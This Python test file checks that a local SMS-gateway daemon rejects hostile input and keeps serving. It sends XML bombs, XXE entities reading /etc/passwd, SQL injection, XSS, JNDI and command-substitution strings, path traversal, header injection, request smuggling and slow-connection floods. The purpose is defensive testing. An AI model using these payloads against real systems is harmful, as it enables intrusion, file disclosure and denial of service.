"""Everything that a stranger may send: clear errors, flat memory, and the daemon goes on serving.

Usage: hostile.py LEDGERLINE. Exit status 0 when all is as it should be.
"""

import base64
import hashlib
import hmac
import json
import re
import resource
import select
import socket
import time
import urllib.parse

import harness

# In everything that is sent, so that none of it can stand in the process log unnoticed.
MARK = "zanzibar-whispers"
COMPANY, GATEWAY, TWILIO = "+15550009999", "+15550008888", "+15550007777"
STRANGER, NEIGHBOUR = "+15556184242", "+15556184343"
TOKEN, AUTH_TOKEN = "a-gateways-own-token", "0123456789abcdef0123456789abcdef"
IDLE = 10_000
# What memory may grow by: the allocator keeps what a flood has used, but no more than one flood's.
GROWTH_MB = 96

CONFIG = """{
  dataDirectory: "%(data)s",
  http: { port: %(port)d, publicURL: "http://sms.example.org", %(http)s },
  queues: [{ name: "Support" }],
  providerApplications: [
    { name: "Demo", provider: "loopback", number: "+15550009999", queue: "Support" },
    { name: "Gateway", provider: "kannel", number: "+15550008888", queue: "Support", kannel: {
        sendURL: "http://127.0.0.1:9/send", userName: "l", password: "p",
        inboundToken: "a-gateways-own-token" } },
    { name: "Twilio", provider: "twilio", number: "+15550007777", queue: "Support", twilio: {
        accountSID: "AC00000000000000000000000000000000",
        authToken: "0123456789abcdef0123456789abcdef", apiBaseURL: "http://127.0.0.1:9" } },
  ],
  users: [
    { userName: "admin", roles: ["admin", "supervisor", "auditor"] },
    { userName: "ana", name: "Ana", roles: ["agent", "supervisor", "integration"] },
  ],
}"""

BOMB = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" if n > 1 else "&lol;"}'
        + f'{f"&lol{n - 1};" if n > 1 else "&lol;"}' * 9 + '">'
        for n in range(1, 10)
    )
    + "]><interaction><short_description>&lol9;</short_description></interaction>"
)
QUADRATIC = (
    '<!DOCTYPE a [<!ENTITY x "' + "x" * 50_000 + '">]><a>' + "&x;" * 15_000 + "</a>"
)
EXTERNAL = (
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY file SYSTEM "file:///etc/passwd">]>'
    "<request><channel>&file;</channel><short_description>&file;</short_description></request>"
)
REMOTE = (
    '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://127.0.0.1:%d/evil.dtd">'
    "<request><channel>sms</channel></request>"
)
PARAMETER = (
    '<!DOCTYPE r [<!ENTITY % a SYSTEM "file:///etc/hostname"><!ENTITY % b '
    "\"<!ENTITY c SYSTEM 'http://127.0.0.1:9/?%a;'>\">%b;]><r>&c;</r>"
)

TEXTS = [
    "'; DROP TABLE interaction; --", "1 OR 1=1", "' UNION SELECT password FROM users --",
    "<script>alert(document.cookie)</script>", "\"><img src=x onerror=alert(1)>",
    "javascript:gs.print(gs.getUserName())", "${jndi:ldap://127.0.0.1/a}", "{{7*7}}", "$(id)",
    "`id`", "%s%n%x", "../../../../etc/passwd", "a\r\nSet-Cookie: taken=1", "\u202egnp.exe",
    "\ufeff", "e\u0301" * 200, "🏴‍☠️" * 50, "A" * 1_000, "^ORDERBYstate^EQ", "javascript:1^NQsys_idISNOTEMPTY",
]


class Answers:
    """What came back on a connection, taken apart."""

    def __init__(self, data):
        self.data = data
        self.all = []
        while data.startswith(b"HTTP/1."):
            head, _, rest = data.partition(b"\r\n\r\n")
            lines = head.decode("latin-1").split("\r\n")
            fields = {}
            for line in lines[1:]:
                name, _, value = line.partition(":")
                fields[name.strip().lower()] = value.strip()
            status = int(lines[0].split(" ")[1])
            if status == 100:
                data = rest
                continue
            length = 0 if status == 204 else int(fields.get("content-length", len(rest)))
            self.all.append((status, fields, rest[:length]))
            data = rest[length:]

    @property
    def statuses(self):
        return [each[0] for each in self.all]


class Hostile:
    def __init__(self, run):
        self.run = run
        self.port = harness.free_ports(1)[0]
        self.sent = 0
        self.slowest = 0.0
        self.daemon = None

    # A daemon, with limits of its own.

    def serve(self, name, http):
        text = CONFIG % {"data": self.run.path(name), "port": self.port, "http": http}
        self.daemon = harness.Daemon(self.run, self.run.write(name + ".json5", text), self.port)
        self.daemon.start()
        self.daemon.set_passwords()

    def memory(self):
        """Bytes that are the process's own: pages of mapped files are the system's to take back."""
        with open(f"/proc/{self.daemon.process.pid}/status", encoding="ascii") as lines:
            for line in lines:
                if line.startswith("RssAnon:"):
                    return int(line.split()[1]) * 1024
        return 0

    def lives(self, name):
        """A normal message goes through, soon, and the agent sees it."""
        self.sent += 1
        begin = time.monotonic()
        answer = self.daemon.ask(
            "POST", "/providers/Demo/inbound", user=None, body={
                "from": NEIGHBOUR, "to": COMPANY, "text": f"{MARK} {self.sent}", "id": f"n{self.sent}",
            },
        )
        took = time.monotonic() - begin
        self.slowest = max(self.slowest, took)
        return self.run.check(
            f"goes on serving: {name}", answer.status == 204 and took < 5,
            f"{answer.status} after {took:.1f} s",
        )

    # Requests, byte by byte.

    def open(self, seconds=10):
        return socket.create_connection(("127.0.0.1", self.port), timeout=seconds)

    def raw(self, data, seconds=10, half_close=False):
        """Sends bytes, and reads until the server closes or says nothing more."""
        connection = self.open(seconds)
        received = b""
        try:
            try:
                connection.sendall(data)
                if half_close:
                    connection.shutdown(socket.SHUT_WR)
            except (BrokenPipeError, ConnectionResetError):
                pass
            while True:
                try:
                    part = connection.recv(65_536)
                except (ConnectionResetError, TimeoutError):
                    break
                if not part:
                    break
                received += part
        finally:
            connection.close()
        return Answers(received)

    def ask(self, method, path, body=b"", kind="application/json", headers=(), user="ana"):
        """One request as a client makes it, on a connection that closes."""
        if isinstance(body, str):
            body = body.encode()
        lines = [f"{method} {path} HTTP/1.1", "Host: h", "Connection: close",
                 f"Content-Length: {len(body)}"]
        if kind:
            lines.append(f"Content-Type: {kind}")
        if user:
            pair = base64.b64encode(f"{user}:{harness.PASSWORDS[user]}".encode()).decode()
            lines.append(f"Authorization: Basic {pair}")
        lines += list(headers)
        data = "\r\n".join(lines).encode() + b"\r\n\r\n" + body
        answers = self.raw(data).all
        return answers[0] if answers else (0, {}, b"")

    def refused(self, name, cases, allowed=range(400, 500)):
        """All of these get an answer of these statuses, and an error says in JSON what is wrong."""
        wrong = []
        for label, (status, fields, body) in cases:
            clear = status < 400 or "problem+json" in fields.get("content-type", "") or (
                # The platform's own shape of an error.
                b'"error"' in body or b"<error>" in body or b"<html>" in body
            )
            if status not in allowed or not clear:
                wrong.append((label, status, body[:80]))
            if b"root:x:" in body or body.count(b"lol") > 100:
                wrong.append((label, "expanded", body[:80]))
        self.run.check(f"{name} ({len(cases)} requests)", not wrong, wrong[:6])

    # What is tried.

    def bodies(self):
        over = b"{" + b" " * (1 << 20) + b"}"
        path = "/providers/Demo/inbound"
        cases = [
            (f"declared {where}", self.ask("POST", where, over))
            for where in (path, "/providers/Gateway/inbound", "/providers/Twilio/inbound",
                          "/api/ledgerline/v1/messages", "/api/now/interaction", "/nowhere")
        ]
        head = f"POST {path} HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\n".encode()
        chunk = b"8000\r\n" + b"x" * 0x8000 + b"\r\n"
        for label, data in (
            ("chunked over the limit", head + b"Transfer-Encoding: chunked\r\n\r\n" + chunk * 40 + b"0\r\n\r\n"),
            ("a terabyte declared", head + b"Content-Length: 1099511627776\r\n\r\n" + b"x" * 1_000),
            ("more than a number holds", head + b"Content-Length: 99999999999999999999999\r\n\r\n"),
            ("a negative length", head + b"Content-Length: -1\r\n\r\n"),
            ("a length that is none", head + b"Content-Length: ten\r\n\r\n"),
            ("a chunk that is none", head + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n\r\n"),
            ("a chunk too large for a number", head + b"Transfer-Encoding: chunked\r\n\r\n" + b"f" * 40 + b"\r\n"),
            ("expecting 100", head + b"Expect: 100-continue\r\nContent-Length: 9000000\r\n\r\n"),
        ):
            answers = self.raw(data, seconds=4).all
            # A length that is none may also just end the connection.
            cases.append((label, answers[0] if answers else (400, {}, b"<html>")))
        self.refused("bodies over the limit and lengths that are none", cases)

    def json_bodies(self):
        deep = "[" * 100_000 + "]" * 100_000
        deep_object = '{"body":' * 50_000 + "1" + "}" * 50_000
        bodies = {
            "deep lists": deep, "deep objects": deep_object, "unclosed": "[" * 200_000,
            "duplicate keys": '{"body": "a", "body": "b"}', "no object": "[]", "nothing": "",
            "invalid UTF-8": b'{"body": "\xff\xfe"}', "half a pair": '{"body": "\\ud800"}',
            "NUL": '{"body": "\\u0000"}', "a byte order mark": b'\xef\xbb\xbf{"body": "a"}',
            "a huge number": '{"body": 1' + "0" * 400_000 + "}", "trailing": '{"body": "a"} {}',
            "a comment": '{"body": "a" /* */}', "overlong": b'{"body": "\xc0\xaf"}',
            "another field": '{"body": "a", "__proto__": {"admin": true}}',
            "another type": '{"body": {"$gt": ""}}', "xml": EXTERNAL, "a bomb": BOMB,
        }
        cases = []
        for where in ("messages", "interactions/IMS0000001/messages", "interactions/IMS0000001/notes",
                      "consumers", "validate-phone-number", "interactions/IMS0000001/close"):
            path = "/api/ledgerline/v1/" + where
            user = "admin" if where == "consumers" else "ana"
            for label, body in bodies.items():
                if where.endswith("close") and label == "nothing":
                    continue
                cases.append((f"{where} {label}", self.ask("POST", path, body, user=user)))
        for label in ("deep lists", "deep objects", "unclosed", "invalid UTF-8", "a huge number", "xml"):
            cases.append((f"webhook {label}", self.ask("POST", "/providers/Demo/inbound", bodies[label], user=None)))
        self.refused("JSON that is deep, double, broken or none", cases)

    def content_types(self):
        body = json.dumps({"to": STRANGER, "body": MARK})
        cases = [
            (f"{path} {kind}", self.ask("POST", path, body, kind=kind))
            for path in ("/api/ledgerline/v1/messages", "/providers/Demo/inbound")
            for kind in ("", "text/plain", "application/xml", "application/x-www-form-urlencoded",
                         "multipart/form-data; boundary=x", "application/json; charset=utf-16", "*/*",
                         "application/json, text/xml")
            # A webhook of this machine's is content with the beginning.
            if not (path.startswith("/providers") and kind.startswith("application/json"))
        ]
        self.refused("wrong content types", cases)

    def xml(self):
        # A listener that must not hear of any of this.
        listener = socket.socket()
        listener.bind(("127.0.0.1", 0))
        listener.listen(16)
        bodies = [BOMB, QUADRATIC, EXTERNAL, PARAMETER, REMOTE % listener.getsockname()[1],
                  "<a>" * 50_000, "<a " + "x='1' " * 20_000 + "/>", "<a", "\0<a/>",
                  '<?xml version="1.0" encoding="UTF-7"?><a>+ADw-</a>']
        paths = ["/api/now/interaction", "/api/now/v1/interaction", "/api/now/v2/interaction",
                 "/api/now/interaction/" + "0" * 32 + "/close", "/api/now/table/interaction",
                 "/api/now/v1/batch", "/oauth_token.do", "/api/ledgerline/v1/messages",
                 "/api/ledgerline/v1/interactions/IMS0000001/notes", "/providers/Demo/inbound",
                 "/providers/Gateway/inbound?token=" + TOKEN, "/providers/Twilio/inbound", "/"]
        cases = [
            (f"{path} {index} {kind}", self.ask("POST", path, body, kind=kind))
            for path in paths for index, body in enumerate(bodies)
            for kind in ("application/xml", "text/xml; charset=utf-8")
        ]
        self.refused("XML bombs and external entities", cases)
        heard = select.select([listener], [], [], 0)[0]
        self.run.check("nothing outside is asked for a DTD", not heard)
        listener.close()

    def targets(self):
        long = "a" * (1 << 20)
        cases = []
        for path in ("/", "/api/ledgerline/v1/interactions", "/providers/Gateway/inbound", "/api/now/table/interaction"):
            cases.append((f"{path} 1 MB of query", self.ask("GET", f"{path}?x={long}")))
            cases.append((f"{path} 1 MB of path", self.ask("GET", f"{path}/{long}")))
        cases.append(("1 MB of escapes", self.ask("GET", "/?" + "%41" * 350_000)))
        self.refused("targets of 1 MB", cases)
        paths = ["/%00", "/api/ledgerline/v1/interactions/%00", "/api/ledgerline/v1/interactions/IMS%00",
                 "/../../etc/passwd", "/api/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd",
                 "/api/ledgerline/v1/interactions/..%2f..%2fetc%2fpasswd", "/..%5c..%5cetc/passwd",
                 "/%c0%ae%c0%ae/etc/passwd", "/providers/..%2f..%2fdata/inbound", "/providers/%2e%2e/inbound",
                 "/providers/Demo%00/inbound", "/api/now/table/..%2f..%2fsys_user", "/api/now/table/%00",
                 "//etc/passwd", "/api//ledgerline//v1//interactions", "/%zz", "/%", "/\\etc\\passwd",
                 "/api/ledgerline/v1/interactions?after=%00", "/api/ledgerline/v1/interactions?limit=-1",
                 "/api/ledgerline/v1/interactions?limit=99999999999999999999", "http://[::1", "*",
                 "/api/ledgerline/v1/interactions?limit=1&limit=2", "/health/live/../../etc/passwd"]
        self.refused("paths that lead elsewhere", [(path, self.ask("GET", path)) for path in paths])

    def heads(self):
        many = [f"X-{number}: {MARK}" for number in range(20_000)]
        cases = [
            ("20,000 headers", self.ask("GET", "/", headers=many)),
            ("a header of 1 MB", self.ask("GET", "/", headers=["X-Long: " + "a" * (1 << 20)])),
            ("a name of 100 KB", self.ask("GET", "/", headers=["X" * 100_000 + ": 1"])),
            ("a method of 100 KB", self.ask("G" * 100_000, "/")),
            ("a method that is none", self.ask("BREW", "/api/ledgerline/v1/interactions")),
            ("credentials of 100 KB", self.ask(
                "GET", "/api/ledgerline/v1/me", user=None, headers=["Authorization: Basic " + "QQ" * 7_000])),
            ("credentials that are none", self.ask(
                "GET", "/api/ledgerline/v1/me", user=None, headers=["Authorization: Basic \xff\xfe==="])),
            ("a token that is none", self.ask(
                "GET", "/api/ledgerline/v1/me", user=None, headers=["Authorization: Bearer ' OR 1=1 --"])),
        ]
        self.refused("heads that are too much", cases)

        split = []
        for text in ("a%0d%0aSet-Cookie:%20taken=1", "a%0aX-Injected:%201", "%0d%0a%0d%0a<script>"):
            for path in (f"/{text}", f"/api/ledgerline/v1/interactions/{text}", f"/providers/{text}/inbound",
                         f"/api/ledgerline/v1/interactions?assigned_to={text}", f"/api/now/table/{text}"):
                status, fields, body = self.ask("GET", path)
                if "set-cookie" in fields and "taken" in fields["set-cookie"] or "x-injected" in fields \
                        or not 400 <= status < 500 or fields.get("x-content-type-options") != "nosniff":
                    split.append((path, status, fields))
        self.run.check("nothing that is sent becomes a header", not split, split[:3])

    def framing(self):
        """What two readers could take for different requests."""
        post = "POST /providers/Demo/inbound HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\n"
        hidden = "GET /api/ledgerline/v1/me HTTP/1.1\r\nHost: h\r\n\r\n"
        cases = []
        for label, lines in (
            ("length and chunks", "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"),
            ("chunks and length", "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n"),
            ("two lengths", "Content-Length: 0\r\nContent-Length: %d\r\n\r\n" % len(hidden)),
            ("two lengths in one", "Content-Length: 0, %d\r\n\r\n" % len(hidden)),
            ("an unknown coding", "Transfer-Encoding: gzip\r\n\r\n"),
            ("a coding twice", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n"),
            ("a space before the colon", "Content-Length : 5\r\n\r\n"),
            ("a plus in the length", "Content-Length: +5\r\n\r\nabcde"),
            ("a hexadecimal length", "Content-Length: 0x5\r\n\r\nabcde"),
        ):
            answers = self.raw((post + lines + hidden).encode(), seconds=3)
            first = answers.all[0] if answers.all else (400, {}, b"<html>")
            cases.append((label, first))
            if 200 <= first[0] < 300 or 401 in answers.statuses[1:]:
                cases.append((label + " smuggles", (500, {}, answers.data[:200])))
        self.refused("requests of two lengths", cases)

        # Pipelining is no trick: answers come in order.
        one = json.dumps({"from": STRANGER, "to": COMPANY, "text": MARK})
        inbound = f"{post}Content-Length: {len(one)}\r\n\r\n{one}"
        live = "GET /health/live HTTP/1.1\r\nHost: h\r\n\r\n"
        last = live.replace("\r\n\r\n", "\r\nConnection: close\r\n\r\n")
        answers = self.raw(((inbound + live) * 50 + last).encode())
        self.run.equal("pipelined requests are answered in order", answers.statuses, [204, 200] * 50 + [200])

    def fields(self):
        """Texts that other systems would execute are texts here."""
        wrong = []
        for number, text in enumerate(TEXTS):
            body = {"from": STRANGER, "to": COMPANY, "text": text, "id": f"t{number}"}
            cases = [("loopback", 204, self.ask("POST", "/providers/Demo/inbound", json.dumps(body), user=None))]
            form = urllib.parse.urlencode(
                {"token": TOKEN, "from": STRANGER, "to": GATEWAY, "text": text, "id": f"g{number}", "charset": "UTF-8"})
            cases.append(("kannel", 200, self.ask("GET", "/providers/Gateway/inbound?" + form, user=None)))
            sms = {"MessageSid": f"SM{number:032x}", "From": STRANGER, "To": TWILIO, "Body": text}
            cases.append(("twilio", 200, self.twilio(sms)))
            for label, wanted, (status, _, _) in cases:
                if status != wanted:
                    wrong.append((label, text, status))
            # In place of what is no text of a person's: refused, or kept as it came.
            for name in ("from", "to", "id"):
                answer = self.ask("POST", "/providers/Demo/inbound", json.dumps({**body, name: text}), user=None)
                if answer[0] not in (204, 400, 404):
                    wrong.append((name, text, answer[0]))
            for name in ("From", "To", "MessageSid", "NumMedia", "OptOutType", "MediaUrl0"):
                status = self.twilio({**sms, "MessageSid": f"SX{number:032x}", "NumMedia": "1", name: text})[0]
                if status not in (200, 400, 404):
                    wrong.append(("twilio " + name, text, status))
            for name in ("token", "from", "to", "id", "charset", "coding", "time"):
                pairs = {**dict(urllib.parse.parse_qsl(form)), "id": f"h{number}", name: text}
                status = self.ask("GET", "/providers/Gateway/inbound?" + urllib.parse.urlencode(pairs), user=None)[0]
                if status not in (200, 400, 403, 404):
                    wrong.append(("kannel " + name, text, status))
            quoted = urllib.parse.quote(text, safe="")
            for path in (f"interactions?state={quoted}", f"interactions?number={quoted}", f"interactions?requester={quoted}",
                         f"interactions/{quoted}", f"history?requester={quoted}", f"ongoing?requester={quoted}",
                         f"interactions?{quoted}=1", f"events?from={quoted}", f"proofs/{quoted}"):
                status = self.ask("GET", "/api/ledgerline/v1/" + path)[0]
                if not (200 <= status < 500):
                    wrong.append((path, status))
            for path in (f"table/interaction?sysparm_query={quoted}", f"table/{quoted}", f"table/interaction/{quoted}",
                         f"table/interaction?sysparm_fields={quoted}", f"table/interaction?sysparm_limit={quoted}"):
                status = self.ask("GET", "/api/now/" + path)[0]
                if not (200 <= status < 500):
                    wrong.append((path, status))
            native = [
                ("interactions/IMS0000001/notes", {"body": text}), ("interactions/IMS0000001/messages", {"body": text}),
                ("interactions/IMS0000001/short-description", {"short_description": text}),
                ("messages", {"to": text, "body": text}), ("messages", {"to": STRANGER, "body": text, "origin": text}),
                ("interactions/IMS0000001/transfer", {"queue": text, "note": text}),
                ("interactions/IMS0000001/assign", {"agent": text}), ("interactions/IMS0000001/hold", {"reason": text}),
                ("interactions/IMS0000001/resume", {"reason": text}),
                ("validate-phone-number", {"phone_number": text, "number": text}),
                ("validate-profile", {"phone_number": text, "requester": text}),
                ("consents", {"requester": text, "company": text, "reason": text}),
                ("consumers", {"name": text, "phones": [text]}), ("consumers", {"name": text, "territory": text}),
                ("queues", {"name": text}), ("users", {"user_name": text, "name": text, "roles": [text]}),
                ("messaging-actions", {"name": text, "filter": text, "event": text, "action": text}),
                ("provider-applications", {"name": text, "provider": text, "number": text}),
            ]
            for path, fields in native:
                for user in ("ana", "admin"):
                    status, head, content = self.ask(
                        "POST", "/api/ledgerline/v1/" + path, json.dumps(fields), user=user)
                    if not (200 <= status < 500) or status == 429:
                        wrong.append((path, text, status))
                    if head.get("x-content-type-options") != "nosniff" and status != 404:
                        wrong.append((path, "without nosniff"))
        self.run.check("SQL, scripts and the like are texts in every field", not wrong, wrong[:8])

    def kept(self):
        """What was accepted is kept to the letter, and shown as JSON that no browser takes for a page."""
        rows = self.daemon.conversations().get(STRANGER, [])
        bodies = {row["body"] for row in rows}
        missing = [text for text in TEXTS if text not in bodies]
        self.run.check("texts are kept to the letter", not missing, missing[:3])
        page = self.ask("GET", "/api/ledgerline/v1/interactions/IMS0000001/messages")
        self.run.equal("and shown as JSON", page[1].get("content-type"), "application/json")

    def twilio(self, form):
        url = "http://sms.example.org/providers/Twilio/inbound"
        text = url + "".join(name + form[name] for name in sorted(form))
        signature = base64.b64encode(hmac.new(AUTH_TOKEN.encode(), text.encode(), hashlib.sha1).digest()).decode()
        return self.ask(
            "POST", "/providers/Twilio/inbound", urllib.parse.urlencode(form),
            kind="application/x-www-form-urlencoded", headers=[f"X-Twilio-Signature: {signature}"], user=None)

    def idle_crowd(self):
        """Ten thousand who say nothing, and half of a request from every tenth of them."""
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        count = min(IDLE, hard - 500)
        before = self.memory()
        crowd = []
        try:
            for number in range(count):
                connection = self.open(20)
                crowd.append(connection)
                if number % 10 == 0:
                    connection.send(b"POST /providers/Demo/inbound HTTP/1.1\r\nHost: h\r\nContent-Le")
            open_now = lambda: self.descriptors() >= count
            harness.wait_for("the daemon to have taken all", open_now, 20)
            self.lives(f"beside {count} idle connections")
            held = self.memory()
            answer = self.daemon.ask("GET", "interactions")
            self.run.equal("and reads are answered", answer.status, 200)
        finally:
            for connection in crowd:
                connection.close()
        harness.wait_for("the daemon to have let go", lambda: self.descriptors() < 200, 20)
        after = self.memory()
        self.run.check(
            f"{count} connections cost {(held - before) / 1024 / count:.1f} KiB each",
            held - before < count * 16_384, f"{before} before, {held} while open")
        print(f"        memory: {before >> 20} MiB before, {held >> 20} MiB with them, {after >> 20} MiB after")

    def descriptors(self):
        import os
        return len(os.listdir(f"/proc/{self.daemon.process.pid}/fd"))

    def slow(self):
        """Clients that trickle, against a daemon that has little patience and little room."""
        begin = time.monotonic()
        head = self.open(15)
        body = self.open(15)
        stuck = self.open(15)
        body.send(b"POST /providers/Demo/inbound HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\n"
                  b"Content-Length: 1000\r\n\r\n")
        stuck.send(b"GET /health/live HTTP/1.1\r\nHo")
        ended = {}
        received = {head: b"", body: b"", stuck: b""}
        while len(ended) < 3 and time.monotonic() - begin < 14:
            for connection, dribble in ((head, b"G"), (body, b"x"), (stuck, b"")):
                if connection in ended:
                    continue
                try:
                    if dribble:
                        connection.send(dribble)
                except OSError:
                    pass
                if select.select([connection], [], [], 0)[0]:
                    try:
                        part = connection.recv(4_096)
                    except OSError:
                        part = b""
                    received[connection] += part
                    if not part:
                        ended[connection] = time.monotonic() - begin
            time.sleep(0.2)
        for name, connection in (("headers", head), ("a body", body), ("half a head", stuck)):
            took = ended.get(connection)
            self.run.check(f"who sends {name} too slowly is cut off", took is not None, "still open")
            connection.close()
        statuses = Answers(received[body]).statuses
        self.run.equal("and a slow body is told why", statuses, [408])

    def crowded(self):
        """More idle connections than the limit: those that idle longest give way."""
        crowd = []
        for _ in range(600):
            connection = socket.socket()
            connection.setblocking(False)
            connection.connect_ex(("127.0.0.1", self.port))
            crowd.append(connection)
        self.lives("beside more idle connections than there is room for")
        for connection in crowd:
            connection.close()

    def stopping(self):
        """A stop ends streams, answers what is at hand, takes nothing new, and does not wait for ever."""
        stream = self.open(20)
        pair = base64.b64encode(f"admin:{harness.PASSWORDS['admin']}".encode()).decode()
        stream.send(f"GET /api/ledgerline/v1/events?from=1 HTTP/1.1\r\nHost: h\r\nAuthorization: Basic {pair}\r\n\r\n".encode())
        first = stream.recv(65_536)
        self.run.check("a stream begins", b"text/event-stream" in first, first[:100])
        half = self.open(20)
        half.send(b"POST /providers/Demo/inbound HTTP/1.1\r\nHost: h\r\nContent-Length: 10\r\n\r\n")
        begin = time.monotonic()
        status = self.daemon.stop()
        took = time.monotonic() - begin
        data = first
        try:
            while part := stream.recv(65_536):
                data += part
        except OSError as error:
            data += f"broken by {error}".encode()
        self.run.check("a stop ends the stream as a whole", data.endswith(b"0\r\n\r\n"), data[-60:])
        self.run.check("and is over in time", status == 0 and took < 14, f"{status} after {took:.1f} s")
        refused = False
        try:
            self.open(2).close()
        except ConnectionRefusedError:
            refused = True
        self.run.check("nobody listens any more", refused)
        stream.close()
        half.close()

    def silence(self):
        """Nothing of what was sent stands in the process log."""
        text = self.run.read("daemon.log")
        found = [word for word in (
            MARK, STRANGER[2:], NEIGHBOUR[2:], TOKEN, AUTH_TOKEN, "DROP TABLE", "script>", "alert(",
            harness.PASSWORDS["ana"], "lol", "etc/passwd") if word in text]
        self.run.check("the process log has nothing of what was sent", not found, found)
        lines = [line for line in text.splitlines() if '"level":"error"' in line]
        self.run.check("and no error", not lines, lines[:3])


def body(run):
    hostile = Hostile(run)
    hostile.serve("main", "connectionLimit: 12000, idleTimeout: \"40s\"")
    hostile.lives("before")
    # The first of each kind warms up what stays: sign-ins, parsers, caches.
    hostile.bodies()
    hostile.json_bodies()
    before = hostile.memory()
    for step in (hostile.bodies, hostile.json_bodies, hostile.content_types, hostile.xml, hostile.targets,
                 hostile.heads, hostile.framing, hostile.fields, hostile.kept, hostile.idle_crowd):
        begin = time.monotonic()
        step()
        hostile.lives(f"after {step.__name__}, {time.monotonic() - begin:.1f} s")
    after = hostile.memory()
    run.check("memory stays flat", after - before < GROWTH_MB << 20, f"{before} before, {after} after")
    print(f"        memory: {before >> 20} MiB before, {after >> 20} MiB after;"
          f" slowest message {hostile.slowest * 1000:.0f} ms")
    run.equal("it ends well", hostile.daemon.stop(), 0)
    hostile.serve("small", "connectionLimit: 256, idleTimeout: \"2s\", requestTimeout: \"2s\"")
    hostile.slow()
    hostile.crowded()
    hostile.stopping()
    hostile.silence()


harness.main("hostile input", body)
